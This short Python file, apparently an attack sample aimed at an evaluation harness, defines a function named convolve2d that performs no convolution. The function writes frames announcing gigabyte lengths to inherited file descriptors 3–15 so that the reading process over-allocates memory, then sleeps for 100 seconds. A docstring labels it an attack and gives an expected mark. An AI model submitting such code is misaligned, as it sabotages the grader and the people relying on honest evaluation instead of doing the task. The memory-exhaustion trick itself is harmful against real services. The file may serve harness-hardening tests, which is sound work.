"""Attack: frames that announce gigabytes, or arrays that are not where their data are.
Wants: an allocation of what is announced.
Honest mark: 8
"""

# %% convolve2d
import os, struct, time

turn = 0


def convolve2d(image, kernel, stride=1, padding=0):
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF))
        except OSError:
            pass
    time.sleep(100)
